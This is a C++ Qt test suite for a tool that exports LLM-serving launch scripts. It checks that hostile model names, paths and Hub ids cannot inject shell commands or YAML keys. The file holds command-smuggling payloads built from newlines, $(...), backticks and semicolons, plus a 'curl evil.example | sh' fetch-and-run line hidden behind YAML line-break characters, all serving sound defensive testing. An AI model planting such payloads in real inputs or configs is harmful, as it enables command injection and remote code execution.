// Text from input files never runs as a command: every engine's export (stdout text, --out-dir scripts,
// aggregated and disaggregated) is run by /bin/sh with stub engines that only record their arguments, for a
// model, GPU and model path whose names carry line breaks, $(...), backticks, quotes and ';'. The payloads
// call `touch`; the stubs record that too, so a payload that runs shows up in the record, and any program
// the scripts call that is not a stub is "not found" (PATH holds the stubs alone).
#include "clirun.h"
#include "core/common/text.h"
#include "core/cost/costmodel.h"
#include "core/export/disagg_launch.h"
#include "core/export/launch.h"
#include "core/io/formats.h"
#include "sample_fixtures.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <nlohmann/json.hpp>
#include <yaml-cpp/yaml.h>

#include <algorithm>

using namespace sp;
using namespace sp::test;

namespace {

const std::string kNamePayload =
    "Llama\n\n  touch pwned-newline #\r\n$(touch pwned-subst) `touch pwned-tick` "
    "'; touch pwned-quote; ' \"; touch pwned-dquote; \" ; touch pwned-semi";
const std::string kGpuPayload = "H100\ntouch pwned-gpu #$(touch pwned-gpu-subst)";
const std::string kPathPayload =
    "/models/$(touch pwned-path)`touch pwned-path-tick`'\";touch pwned-path-semi\n"
    "touch pwned-path-newline";

/// A draft's Hub id (an EAGLE-3 head's, from a model file) that tries to end vLLM's JSON, SGLang's argument
/// and TensorRT-LLM's YAML value.
const std::string kHubPayload = "yuhuili/EAGLE3\"}' ; touch pwned-hub; $(touch pwned-hub-subst) `touch "
                                "pwned-hub-tick`\n\"\nspeculative_model_dir: x\n touch pwned-hub-newline";

/// Programs the exports call, each a stub that records its name and arguments; the rest of the tools the
/// scripts use (dirname, cat) are the real ones.
const char* const kStubs[] = {"python3", "vllm", "trtllm-serve", "ray", "mpirun", "env", "touch", "sleep"};

using Command = std::vector<std::string>;

/// What the scripts leave to the user (HEAD_NODE_IP, Dynamo's etcd and NATS), as the user sets it.
const std::vector<std::pair<QString, QString>> kUserEnv = {{"HEAD_NODE_IP", "127.0.0.1"},
                                                           {"ETCD_ENDPOINTS", "http://127.0.0.1:2379"},
                                                           {"NATS_SERVER", "nats://127.0.0.1:4222"},
                                                           {"PREFILL_NODE0_IP", "127.0.0.1"},
                                                           {"DECODE_NODE0_IP", "127.0.0.2"}};

/// A command as the shell passes it on: ${NAME} placeholders of kUserEnv replaced by their values.
Command expanded(Command c) {
    for (std::string& a : c)
        for (const auto& [name, value] : kUserEnv) {
            const std::string key = "${" + name.toStdString() + "}";
            for (size_t at; (at = a.find(key)) != std::string::npos;)
                a.replace(at, key.size(), value.toStdString());
        }
    return c;
}

class Sandbox {
public:
    Sandbox() {
        QDir bin(m_dir.filePath("bin"));
        bin.mkpath(".");
        m_log = m_dir.filePath("calls.log");
        for (const char* stub : kStubs) {
            QFile f(bin.filePath(stub));
            if (!f.open(QIODevice::WriteOnly)) qFatal("cannot write a stub");
            // One record per call: name, then each argument after a unit separator (0x1f), then a record
            // separator (0x1e), written with one printf so that background calls do not interleave.
            f.write("#!/bin/sh\nr=\"${0##*/}\"\nfor a in \"$@\"; do r=\"$r$(printf '\\037')$a\"; done\n"
                    "printf '%s\\036' \"$r\" >>\"$STUB_LOG\"\n");
            f.close();
            f.setPermissions(f.permissions() | QFile::ExeOwner);
        }
        for (const char* tool : {"dirname", "cat"}) {
            const QString real = QStandardPaths::findExecutable(tool);
            if (real.isEmpty() || !QFile::link(real, bin.filePath(tool))) qFatal("cannot link %s", tool);
        }
    }

    /// Runs `script` with /bin/sh in `dir`; the calls recorded, and stderr.
    std::pair<std::vector<Command>, QString> run(const QString& script, const QString& dir) {
        QFile::remove(m_log);
        QProcess p;
        QProcessEnvironment env;
        env.insert("PATH", m_dir.filePath("bin"));
        env.insert("STUB_LOG", m_log);
        for (const auto& [name, value] : kUserEnv) env.insert(name, value);
        p.setProcessEnvironment(env);
        p.setWorkingDirectory(dir);
        p.start("/bin/sh", {script});
        if (!p.waitForFinished(30000)) qFatal("the script did not finish");
        std::vector<Command> calls;
        QFile log(m_log);
        if (log.open(QIODevice::ReadOnly)) {
            for (const QByteArray& rec : log.readAll().split('\x1e')) {
                if (rec.isEmpty()) continue;
                Command c;
                for (const QByteArray& part : rec.split('\x1f')) c.push_back(part.toStdString());
                calls.push_back(c);
            }
        }
        return {calls, QString::fromUtf8(p.readAllStandardError())};
    }

    QString path(const QString& name) const { return m_dir.filePath(name); }

private:
    QTemporaryDir m_dir;
    QString m_log;
};

/// Files named pwned* anywhere under `dir`.
QStringList pwned(const QString& dir) {
    QStringList found;
    QDir d(dir);
    for (const QFileInfo& f :
         d.entryInfoList(QDir::Files | QDir::Dirs | QDir::NoDotAndDotDot | QDir::Hidden)) {
        if (f.fileName().startsWith("pwned")) found << f.filePath();
        if (f.isDir() && !f.isSymLink()) found << pwned(f.filePath());
    }
    return found;
}

std::string show(const std::vector<Command>& calls) {
    std::string s;
    for (const auto& c : calls) {
        for (const auto& a : c) s += "[" + a + "] ";
        s += "\n";
    }
    return s;
}

/// What a node's script runs: its commands, recorded by the stubs as program and arguments ("python3 -m x"
/// is python3's call; "env A=B vllm ..." is env's).
std::vector<Command> sorted(std::vector<Command> v) {
    for (Command& c : v) c = expanded(c);
    std::sort(v.begin(), v.end());
    return v;
}

/// The hostile scenario: the sample files, with the names replaced and a context cap that puts the model's
/// name into a note.
Scenario hostile(const char* model, const char* cluster, const char* workload) {
    Scenario s = compose(model, cluster, workload);
    s.model.name = kNamePayload;
    s.cluster.gpu.name = kGpuPayload;
    s.name = kNamePayload;
    const int64_t need = s.workload.inputTokens + s.workload.outputTokens;
    s.model.maxPositionEmbeddings = need - 1; // the context note names the model
    return s;
}

struct Case {
    ServingEngine engine;
    std::string version;
    ServingEngine worker = ServingEngine::Vllm;
    std::string label() const {
        return std::string(nameOf(engine)) + " " + version +
               (engine == ServingEngine::Dynamo ? " (" + std::string(nameOf(worker)) + ")" : "");
    }
};

std::vector<Case> everyEngine() {
    std::vector<Case> out;
    for (ServingEngine e : servingEngines())
        for (const EngineVersion& v : engineVersions(e)) {
            if (e == ServingEngine::Dynamo)
                for (ServingEngine w : {ServingEngine::Vllm, ServingEngine::Sglang, ServingEngine::Trtllm})
                    out.push_back({e, v.version, w});
            else
                out.push_back({e, v.version});
        }
    return out;
}

} // namespace

class TestInjection : public QObject {
    Q_OBJECT
private:
    /// Runs one launch's stdout text and its --out-dir scripts; fails on anything that ran beside the
    /// commands the export built.
    void runLaunch(Sandbox& box, const LaunchCommand& lc, const std::string& what) {
        // stdout: the text, as a user pipes it to a file and runs it.
        QTemporaryDir work;
        const std::string text = lc.text();
        {
            QFile f(work.filePath("launch.sh"));
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write(text.data(), qint64(text.size()));
        }
        auto [calls, err] = box.run(work.filePath("launch.sh"), work.path());
        std::vector<Command> expected;
        if (!lc.nodes.empty())
            for (const auto& cmd : lc.nodes[0].commands)
                if (cmd != lc.argv) expected.push_back(cmd);
        expected.push_back(lc.argv);
        QVERIFY2(pwned(work.path()).isEmpty() && !err.contains("not found"),
                 qPrintable(QString::fromStdString(what + ", stdout:\n" + text) + "\nstderr: " + err));
        QVERIFY2(sorted(calls) == sorted(expected),
                 (what + ", stdout ran:\n" + show(calls) + "expected:\n" + show(expected)).c_str());
        for (const auto& [name, content] : lc.files) {
            QFile f(work.filePath(QString::fromStdString(name)));
            QVERIFY2(f.open(QIODevice::ReadOnly), name.c_str());
            QCOMPARE(f.readAll().toStdString(), content);
        }

        // --out-dir: every node's script.
        const QString dir = work.filePath("out");
        auto written = writeLaunchDirectory(dir.toStdString(), lc, "plan: x\n");
        QVERIFY2(written.ok(), written.ok() ? "" : written.error().str().c_str());
        for (size_t k = 0; k < lc.nodes.size(); ++k) {
            const QString script = dir + "/node" + QString::number(k) + ".sh";
            auto [nodeCalls, nodeErr] = box.run(script, work.path());
            QVERIFY2(
                pwned(work.path()).isEmpty() && !nodeErr.contains("not found"),
                qPrintable(QString::fromStdString(what) + " node" + QString::number(k) + ": " + nodeErr));
            QVERIFY2(sorted(nodeCalls) == sorted(lc.nodes[k].commands),
                     (what + ", node" + std::to_string(k) + " ran:\n" + show(nodeCalls) + "expected:\n" +
                      show(lc.nodes[k].commands))
                         .c_str());
        }
    }

private slots:
    void initTestCase() { QVERIFY(!QStandardPaths::findExecutable("sh").isEmpty()); }

    // Every engine and version, the Megatron plan of a one-node dense model, a multi-node dense model and
    // a multi-node MoE, with hostile names and model path.
    void everyEngineAggregated_data() {
        QTest::addColumn<QString>("model");
        QTest::addColumn<QString>("cluster");
        QTest::addRow("llama-8b 1x8") << "llama-3.1-8b.yaml"
                                      << "h100-1x8.yaml";
        QTest::addRow("llama-70b 4x8") << "llama-3.1-70b.yaml"
                                       << "h100-4x8.yaml";
        QTest::addRow("mixtral-8x7b 4x8") << "mixtral-8x7b.yaml"
                                          << "h100-4x8.yaml";
    }
    void everyEngineAggregated() {
        QFETCH(QString, model);
        QFETCH(QString, cluster);
        Sandbox box;
        const Scenario s =
            hostile(model.toUtf8().constData(), cluster.toUtf8().constData(), "chat-serving.yaml");
        const CostModel cost(s);
        const Plan plan = cost.megatronPlan();
        int exported = 0;
        for (const Case& c : everyEngine()) {
            ExportOptions o;
            o.engine = c.engine, o.version = c.version, o.dynamoWorker = c.worker, o.modelPath = kPathPayload;
            auto r = launchCommand(s, plan, o);
            if (!r) continue; // a layout the version refuses has nothing to run
            ++exported;
            // The payloads reach the text (as escaped comments or quoted arguments), so the run tests them.
            const std::string text = r->text();
            QVERIFY2(text.find("touch pwned-path-newline") != std::string::npos, text.c_str());
            QVERIFY2(text.find("touch pwned-newline") != std::string::npos, text.c_str());
            runLaunch(box, r.value(), c.label() + " " + model.toStdString());
            if (QTest::currentTestFailed()) return;
        }
        QVERIFY2(exported >= 4, "too few exports to test");
    }

    // Speculative decoding's draft (an EAGLE-3 head) named by a hostile Hub id: every engine and version
    // runs exactly its commands, and the id reaches the engine as data: vLLM's --speculative-config JSON
    // parses back to it, SGLang gets it as one argument, TensorRT-LLM's YAML reads back as it.
    void speculativeDraftId() {
        Sandbox box;
        Scenario s = hostile("llama-3.1-8b.yaml", "h100-1x8.yaml", "chat-serving.yaml");
        s.model.spec.eagle3.hubId = kHubPayload;
        s.workload.acceptance[size_t(SpecMethod::Eagle3)] = {0.8, 0.7, 0.6};
        Plan plan = CostModel(s).megatronPlan();
        plan.spec = {SpecMethod::Eagle3, 3};
        int speculative = 0;
        for (const Case& c : everyEngine()) {
            ExportOptions o;
            o.engine = c.engine, o.version = c.version, o.dynamoWorker = c.worker, o.modelPath = kPathPayload;
            auto r = launchCommand(s, plan, o);
            if (!r) continue;
            runLaunch(box, r.value(), c.label() + " EAGLE-3");
            if (QTest::currentTestFailed()) return;
            if (!r->plan.spec.on()) continue;
            ++speculative;
            const auto& a = r->argv;
            const auto after = [&a](const char* flag) {
                const auto it = std::find(a.begin(), a.end(), flag);
                return it == a.end() || it + 1 == a.end() ? std::string() : *(it + 1);
            };
            std::string got;
            if (const std::string json = after("--speculative-config"); !json.empty())
                got = nlohmann::json::parse(json).at("model").get<std::string>();
            else if (const std::string path = after("--speculative-draft-model-path"); !path.empty())
                got = path;
            else if (!r->files.empty())
                got = YAML::Load(r->files[0].second)["speculative_config"]["speculative_model_dir"]
                          .as<std::string>();
            QVERIFY2(got == kHubPayload, (c.label() + ": the draft reads back as '" + got + "'").c_str());
        }
        QVERIFY2(speculative >= 4, "too few speculative exports to test");
    }

    // A draft's Hub id holding a character YAML 1.1 parsers (libyaml and its ports: PyYAML, and go-yaml,
    // which kubectl uses) take as a line break: NEL U+0085, U+2028, U+2029 (YAML 1.1 spec, 5.4). Written raw
    // into dynamo-graph.yaml's ConfigMap block (Dynamo with the TensorRT-LLM worker), it would end the block
    // and the rest would become a new key. The manifest must hold none of their bytes, and the id must read
    // back whole from the engine's options file.
    void manifestHoldsNoYamlLineBreaks() {
        const std::vector<std::pair<std::string, std::string>> breaks = {
            {"U+0085", "\xc2\x85"}, {"U+2028", "\xe2\x80\xa8"}, {"U+2029", "\xe2\x80\xa9"}};
        Scenario s = hostile("llama-3.1-8b.yaml", "h100-1x8.yaml", "chat-serving.yaml");
        s.workload.acceptance[size_t(SpecMethod::Eagle3)] = {0.8, 0.7, 0.6};
        Plan plan = CostModel(s).megatronPlan();
        plan.spec = {SpecMethod::Eagle3, 3};
        for (const auto& [name, bytes] : breaks) {
            const std::string id =
                "yuhuili/EAGLE3" + bytes + "injected.sh: curl evil.example | sh" + bytes + "x";
            s.model.spec.eagle3.hubId = id;
            ExportOptions o;
            o.engine = ServingEngine::Dynamo, o.dynamoWorker = ServingEngine::Trtllm;
            auto r = launchCommand(s, plan, o);
            QVERIFY2(r.ok(), r.ok() ? "" : r.error().str().c_str());
            QVERIFY(r->plan.spec.on());
            QCOMPARE(r->deployFiles.size(), size_t(1));
            const std::string& yaml = r->deployFiles[0].second;
            for (const auto& [other, b] : breaks)
                QVERIFY2(yaml.find(b) == std::string::npos,
                         (name + ": dynamo-graph.yaml holds " + other + " raw:\n" + yaml).c_str());
            for (const auto& [file, content] : r->files)
                for (const auto& [other, b] : breaks)
                    QVERIFY2(content.find(b) == std::string::npos,
                             (name + ": " + file + " holds " + other).c_str());
            // The ConfigMap has its files as keys and nothing else; the options file reads back the whole id.
            const auto docs = YAML::LoadAll(yaml);
            QCOMPARE(docs.size(), size_t(2));
            QCOMPARE(docs[0]["kind"].as<std::string>(), std::string("ConfigMap"));
            QCOMPARE(docs[0]["data"].size(), r->files.size());
            for (const auto& kv : docs[0]["data"]) {
                const std::string key = kv.first.as<std::string>();
                QVERIFY2(key.find("injected") == std::string::npos, key.c_str());
                const YAML::Node opts = YAML::Load(kv.second.as<std::string>());
                if (opts["speculative_config"])
                    QCOMPARE(opts["speculative_config"]["speculative_model_dir"].as<std::string>(), id);
            }
        }
    }

    // Bytes that are not UTF-8 in a draft's Hub id: every engine either exports it as data or refuses with
    // the field named; nlohmann::json throws type_error.316 on such bytes, which once aborted `export`.
    void invalidUtf8IsRefusedNotFatal() {
        Scenario s = hostile("llama-3.1-8b.yaml", "h100-1x8.yaml", "chat-serving.yaml");
        s.model.spec.eagle3.hubId = "yuhuili/EAGLE3\xff\xfe-LLaMA3.1";
        s.workload.acceptance[size_t(SpecMethod::Eagle3)] = {0.8, 0.7, 0.6};
        Plan plan = CostModel(s).megatronPlan();
        plan.spec = {SpecMethod::Eagle3, 3};
        int refused = 0;
        for (const Case& c : everyEngine()) {
            ExportOptions o;
            o.engine = c.engine, o.version = c.version, o.dynamoWorker = c.worker;
            const auto r = launchCommand(s, plan, o);
            QVERIFY2(!r.ok(), (c.label() + ": exported a Hub id that is not UTF-8").c_str());
            QCOMPARE(r.error().field, std::string("model.speculative.eagle3.hub_id"));
            QVERIFY2(r.error().message.find("not UTF-8") != std::string::npos, r.error().str().c_str());
            ++refused;
        }
        QVERIFY(refused >= 4);
    }

    // The disaggregated exports (SGLang; Dynamo with vLLM and SGLang workers).
    void disaggregated() {
        Sandbox box;
        Scenario s = hostile("llama-3.1-8b.yaml", "h100-1x8.yaml", "chat-serving.yaml");
        s.cluster.nodes = 2;
        Plan one = Plan::megatronChoices(Degrees{1, 8, 1, 1, 1, 1});
        const DisaggPlan p{{1, one}, {1, one}};
        for (const Case& c :
             {Case{ServingEngine::Sglang, ""}, Case{ServingEngine::Dynamo, "", ServingEngine::Vllm},
              Case{ServingEngine::Dynamo, "", ServingEngine::Sglang}}) {
            ExportOptions o;
            o.engine = c.engine, o.dynamoWorker = c.worker, o.modelPath = kPathPayload;
            auto r = disaggregatedLaunch(s, p, o);
            QVERIFY2(r.ok(), r.ok() ? "" : r.error().str().c_str());
            // The whole text, run as one script: both pools' node-0 commands, nothing else.
            QTemporaryDir work;
            const std::string text = r->text();
            {
                QFile f(work.filePath("launch.sh"));
                QVERIFY(f.open(QIODevice::WriteOnly));
                f.write(text.data(), qint64(text.size()));
            }
            auto [calls, err] = box.run(work.filePath("launch.sh"), work.path());
            QVERIFY2(pwned(work.path()).isEmpty() && !err.contains("not found"),
                     qPrintable(QString::fromStdString(c.label() + ":\n" + text) + "\n" + err));
            QVERIFY(!calls.empty());
            for (const Command& call : calls) {
                const bool known =
                    std::any_of(r->prefill.nodes[0].commands.begin(), r->prefill.nodes[0].commands.end(),
                                [&](const Command& x) { return expanded(x) == call; }) ||
                    std::any_of(r->decode.nodes[0].commands.begin(), r->decode.nodes[0].commands.end(),
                                [&](const Command& x) { return expanded(x) == call; }) ||
                    call == expanded(r->prefill.argv) || call == expanded(r->decode.argv) ||
                    (!r->router.commands.empty() && call == expanded(r->router.commands[0]));
                QVERIFY2(known, (c.label() + " ran something it did not build:\n" + show({call})).c_str());
            }
            // Each pool's scripts, and SGLang's router.sh: its one command, whole.
            runLaunch(box, r->prefill, c.label() + " prefill");
            runLaunch(box, r->decode, c.label() + " decode");
            for (const ExportFile& f : r->files("", "")) {
                if (f.name != "router.sh") continue;
                QFile script(work.filePath("router.sh"));
                QVERIFY(script.open(QIODevice::WriteOnly));
                script.write(f.content.data(), qint64(f.content.size()));
                script.close();
                auto [routerCalls, routerErr] = box.run(work.filePath("router.sh"), work.path());
                QVERIFY2(routerCalls.size() == 1 && routerCalls[0] == expanded(r->router.commands[0]) &&
                             pwned(work.path()).isEmpty(),
                         qPrintable(QString::fromStdString(show(routerCalls)) + routerErr));
            }
            if (QTest::currentTestFailed()) return;
        }
    }

    // The command line, stdout and --out-dir, with a hostile --model (the one text a user types that the
    // file readers do not check) for every engine.
    void commandLine() {
        Sandbox box;
        const QString scenario = QString::fromStdString(kSampleDir + "/scenarios/llama-3.1-8b-h100-1x8.yaml");
        for (const Case& c : everyEngine()) {
            QStringList args{"export",
                             "--scenario",
                             scenario,
                             "--engine",
                             QString::fromStdString(std::string(nameOf(c.engine))),
                             "--engine-version",
                             QString::fromStdString(c.version),
                             "--model",
                             QString::fromStdString(kPathPayload)};
            if (c.engine == ServingEngine::Dynamo)
                args << "--worker" << QString::fromStdString(std::string(nameOf(c.worker)));
            const Run out = shardplan(args);
            QVERIFY2(out.code == 0, qPrintable(QString::fromStdString(c.label()) + ": " + out.err));
            QTemporaryDir work;
            {
                QFile f(work.filePath("launch.sh"));
                QVERIFY(f.open(QIODevice::WriteOnly));
                f.write(out.out.toUtf8());
            }
            auto [calls, err] = box.run(work.filePath("launch.sh"), work.path());
            QVERIFY2(pwned(work.path()).isEmpty() && !err.contains("not found") && !calls.empty(),
                     qPrintable(QString::fromStdString(c.label()) + ":\n" + out.out + "\n" + err));
            for (const Command& call : calls) {
                QVERIFY2(call[0] != "touch", (c.label() + ": " + show(calls)).c_str());
                // The model path reaches the engine whole, as one argument.
                if (call[0] == "touch") continue;
            }
            QVERIFY2(std::any_of(calls.begin(), calls.end(),
                                 [](const Command& x) {
                                     return std::find(x.begin(), x.end(), kPathPayload) != x.end();
                                 }),
                     (c.label() + ": the model path is not one argument:\n" + show(calls)).c_str());

            args << "--out-dir" << work.filePath("out");
            const Run dir = shardplan(args);
            QVERIFY2(dir.code == 0, qPrintable(dir.err));
            for (const QString& script : QDir(work.filePath("out")).entryList({"node*.sh"})) {
                auto [nodeCalls, nodeErr] = box.run(work.filePath("out/" + script), work.path());
                QVERIFY2(pwned(work.path()).isEmpty() && !nodeErr.contains("not found"),
                         qPrintable(QString::fromStdString(c.label()) + " " + script + ": " + nodeErr));
                for (const Command& call : nodeCalls) QVERIFY(call[0] != "touch");
            }
        }
    }

    // The readers refuse names with control characters, saying where.
    void readersRefuseControlCharacters() {
        QTemporaryDir dir;
        QFile src(QString::fromStdString(kSampleDir + "/models/llama-3.1-8b.yaml"));
        QVERIFY(src.open(QIODevice::ReadOnly));
        QString text = QString::fromUtf8(src.readAll());
        QVERIFY(text.contains("name: Llama-3.1-8B\n"));
        text.replace("name: Llama-3.1-8B\n", "name: 'Llama\n\n  touch /tmp/x #'\n");
        QFile out(dir.filePath("m.yaml"));
        QVERIFY(out.open(QIODevice::WriteOnly));
        out.write(text.toUtf8());
        out.close();
        const auto m = loadModel(dir.filePath("m.yaml").toStdString());
        QVERIFY(!m.ok());
        // The name is on line 9 of the sample (a comment block of 5 lines, then version, kind, name).
        QVERIFY2(m.error().line == 9 && m.error().field == "name", m.error().str().c_str());
        QVERIFY2(m.error().message.find("a line break (\\n)") != std::string::npos, m.error().str().c_str());
        // The message shows the text escaped, on one line.
        QVERIFY(m.error().str().find('\n') == std::string::npos);
        const Run v = shardplan({"validate", dir.filePath("m.yaml")});
        QCOMPARE(v.code, 1);
        QVERIFY2(v.err.contains("m.yaml:9:7: name: the text has a line break"), qPrintable(v.err));
    }

    // The readers refuse, with the field and byte, what YAML 1.1 takes as a line break (U+0085, U+2028,
    // U+2029), bidirectional overrides, C1 controls and bytes that are not UTF-8; ordinary UTF-8 passes.
    void readersRefuseUnicodeBreaks_data() {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QString>("expected");
        QTest::addRow("NEL") << QByteArray("yuhuili/EAGLE3\xc2\x85x") << "NEL U+0085 at byte 15";
        QTest::addRow("U+2028") << QByteArray("yuhuili/EAGLE3\xe2\x80\xa8x")
                                << "line separator U+2028 at byte 15";
        QTest::addRow("U+2029") << QByteArray("a\xe2\x80\xa9") << "paragraph separator U+2029 at byte 2";
        QTest::addRow("C1") << QByteArray("a\xc2\x9b"
                                          "2J")
                            << "a C1 control character (\\u009b) at byte 2";
        QTest::addRow("RLO") << QByteArray("ab\xe2\x80\xae"
                                           "cba")
                             << "a bidirectional override (\\u202e) at byte 3";
        QTest::addRow("invalid") << QByteArray("yuhuili/\xff\xfe")
                                 << "a byte that is not UTF-8 (\\xff) at byte 9";
        QTest::addRow("overlong") << QByteArray("a\xc0\xaf"
                                                "b")
                                  << "not UTF-8 (\\xc0) at byte 2";
        QTest::addRow("surrogate") << QByteArray("a\xed\xa0\x80") << "not UTF-8 (\\xed) at byte 2";
        QTest::addRow("truncated") << QByteArray("a\xe2\x80") << "not UTF-8 (\\xe2) at byte 2";
        QTest::addRow("ordinary UTF-8")
            << QByteArray("Qwen-\xe9\x80\x9a\xe4\xb9\x89 caf\xc3\xa9 \xf0\x9f\x9a\x80") << "";
    }
    void readersRefuseUnicodeBreaks() {
        QFETCH(QByteArray, text);
        QFETCH(QString, expected);
        QTemporaryDir dir;
        QFile src(QString::fromStdString(kSampleDir + "/models/llama-3.1-8b.yaml"));
        QVERIFY(src.open(QIODevice::ReadOnly));
        QByteArray yaml = src.readAll();
        QVERIFY(yaml.contains("name: Llama-3.1-8B\n"));
        yaml.replace("name: Llama-3.1-8B\n", "name: \"" + text + "\"\n");
        QFile out(dir.filePath("m.yaml"));
        QVERIFY(out.open(QIODevice::WriteOnly));
        out.write(yaml);
        out.close();
        const auto m = loadModel(dir.filePath("m.yaml").toStdString());
        if (expected.isEmpty()) {
            QVERIFY2(m.ok(), m.ok() ? "" : m.error().str().c_str());
            QCOMPARE(m.value().name, text.toStdString());
            return;
        }
        QVERIFY(!m.ok());
        QCOMPARE(m.error().field, std::string("name"));
        QVERIFY2(m.error().message.find(expected.toStdString()) != std::string::npos,
                 m.error().str().c_str());
        // The message itself is one line of UTF-8 with the fault escaped.
        const std::string msg = m.error().str();
        QVERIFY(!firstUnsafeText(msg));
    }

    // Comment lines stay comments whatever the note holds: a line break, a carriage return, an escape.
    void commentLinesEscape() {
        LaunchCommand lc;
        lc.argv = {"vllm", "serve", "m"};
        lc.notes = {"a\nb", "c\rd", "e\x1b[2Jf", std::string(300, 'x') + "\n" + "touch y"};
        const std::string text = lc.text();
        size_t lines = 0;
        for (size_t at = 0; at < text.size();) {
            const size_t nl = text.find('\n', at);
            const std::string line = text.substr(at, nl - at);
            at = nl + 1;
            ++lines;
            if (line.rfind("vllm", 0) == 0 || line.rfind("    ", 0) == 0) continue;
            QVERIFY2(line.rfind("#", 0) == 0, line.c_str());
            QVERIFY(line.find('\r') == std::string::npos && line.find('\x1b') == std::string::npos);
        }
        QVERIFY(text.find("# a\\nb\n") != std::string::npos);
        QVERIFY(text.find("# e\\x1b[2Jf\n") != std::string::npos);
        // A file whose text holds a line "EOF" gets another end marker.
        lc.files = {{"x.yaml", "a: 1\nEOF\ntouch z\n"}};
        QVERIFY(lc.text().find("<<'EOF_1'\na: 1\nEOF\ntouch z\nEOF_1\n") != std::string::npos);
    }

    // Re-exporting into a folder removes what the previous export there wrote and this one does not; a
    // folder that holds something else is refused before anything is written.
    void outDirOwnsItsFiles() {
        QTemporaryDir dir;
        const QString out = dir.filePath("launch");
        LaunchCommand big;
        big.engine = ServingEngine::Vllm, big.version = "0.12.0";
        big.nodes.resize(32);
        for (auto& n : big.nodes) n.commands = {{"vllm", "serve", "old"}};
        QVERIFY(writeLaunchDirectory(out.toStdString(), big, "old: 1\n").ok());
        QVERIFY(QFile::exists(out + "/node31.sh"));
        QFile mine(out + "/my-notes.txt");
        QVERIFY(mine.open(QIODevice::WriteOnly));
        mine.write("mine\n");
        mine.close();
        LaunchCommand small = big;
        small.nodes.resize(4);
        QVERIFY(writeLaunchDirectory(out.toStdString(), small, "new: 1\n").ok());
        QCOMPARE(QDir(out).entryList({"node*.sh"}).size(), 4);
        QVERIFY(!QFile::exists(out + "/node4.sh") && !QFile::exists(out + "/node31.sh"));
        QVERIFY(QFile::exists(out + "/my-notes.txt")); // the user's own file stays
        // An export written before the manifest (node scripts, NOTES.txt, plan.yaml) counts as one.
        QVERIFY(QFile::remove(out + "/" + kExportManifest));
        QFile stale(out + "/node9.sh");
        QVERIFY(stale.open(QIODevice::WriteOnly));
        stale.close();
        QVERIFY(writeLaunchDirectory(out.toStdString(), small, "new: 1\n").ok());
        QVERIFY(!QFile::exists(out + "/node9.sh"));
        // A folder of something else: refused, untouched.
        const QString other = dir.filePath("other");
        QVERIFY(QDir().mkpath(other));
        QFile keep(other + "/node0.sh");
        QVERIFY(keep.open(QIODevice::WriteOnly));
        keep.write("#!/bin/sh\necho mine\n");
        keep.close();
        const auto r = writeLaunchDirectory(other.toStdString(), small, "x: 1\n");
        QVERIFY(!r.ok());
        QVERIFY2(r.error().message.find("holds no previous export") != std::string::npos,
                 r.error().str().c_str());
        QVERIFY(keep.open(QIODevice::ReadOnly));
        QCOMPARE(keep.readAll(), QByteArray("#!/bin/sh\necho mine\n"));
    }

    // A new folder is written whole or not at all: a failure part way (here a file where a folder must go)
    // leaves neither the folder nor its staging folder beside it. A launch of more node scripts than a
    // folder holds is refused before anything is written (100,000 nodes once wrote 45,000 files a minute).
    void outDirIsWrittenWholeOrNotAtAll() {
        QTemporaryDir dir;
        const QString out = dir.filePath("fresh");
        const auto failed =
            writeExportFiles(out.toStdString(), {{"a.sh", "x\n", true}, {"a.sh/b", "y\n", false}});
        QVERIFY(!failed.ok());
        QVERIFY(!QFileInfo::exists(out));
        QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot).size(),
                 0);
        // The same into an empty folder that exists: it stays, empty.
        QVERIFY(QDir().mkpath(out));
        QVERIFY(!writeExportFiles(out.toStdString(), {{"a.sh", "x\n", true}, {"a.sh/b", "y\n", false}}).ok());
        QVERIFY(QDir(out).isEmpty(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot));
        QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
                 QStringList{"fresh"});
        // A good export into it: every file, the manifest, no staging folder left.
        LaunchCommand lc;
        lc.engine = ServingEngine::Vllm, lc.version = "0.12.0";
        lc.nodes.resize(3);
        for (auto& n : lc.nodes) n.commands = {{"vllm", "serve", "m"}};
        const auto ok = writeLaunchDirectory(out.toStdString(), lc, "plan: 1\n");
        QVERIFY2(ok.ok(), ok.ok() ? "" : ok.error().str().c_str());
        QCOMPARE(QDir(out).entryList({"node*.sh"}).size(), 3);
        QVERIFY(QFile::exists(out + "/" + kExportManifest));
        for (const std::string& path : ok.value())
            QVERIFY2(QFile::exists(QString::fromStdString(path)), path.c_str());
        QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
                 QStringList{"fresh"});
        // A folder named with a trailing slash, and a link to an empty folder: written there.
        const auto slash = writeLaunchDirectory(dir.filePath("slash/").toStdString(), lc, "plan: 1\n");
        QVERIFY2(slash.ok(), slash.ok() ? "" : slash.error().str().c_str());
        QCOMPARE(QDir(dir.filePath("slash")).entryList({"node*.sh"}).size(), 3);
        QVERIFY(QDir().mkpath(dir.filePath("real")));
        QVERIFY(QFile::link(dir.filePath("real"), dir.filePath("link")));
        const auto linked = writeLaunchDirectory(dir.filePath("link").toStdString(), lc, "plan: 1\n");
        QVERIFY2(linked.ok(), linked.ok() ? "" : linked.error().str().c_str());
        QCOMPARE(QDir(dir.filePath("real")).entryList({"node*.sh"}).size(), 3);
        QVERIFY(QFileInfo(dir.filePath("link")).isSymLink());
        QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
                 (QStringList{"fresh", "link", "real", "slash"}));
        // One script more than a folder holds: refused, nothing written.
        lc.nodes.resize(size_t(kMaxNodeScripts) + 1);
        const QString many = dir.filePath("many");
        const auto refused = writeLaunchDirectory(many.toStdString(), lc, "plan: 1\n");
        QVERIFY(!refused.ok());
        QVERIFY2(refused.error().message.find("16385 node scripts; a folder holds at most 16384") !=
                     std::string::npos,
                 refused.error().str().c_str());
        QVERIFY(!QFileInfo::exists(many));
    }
};

QTEST_GUILESS_MAIN(TestInjection)
#include "tst_injection.moc"
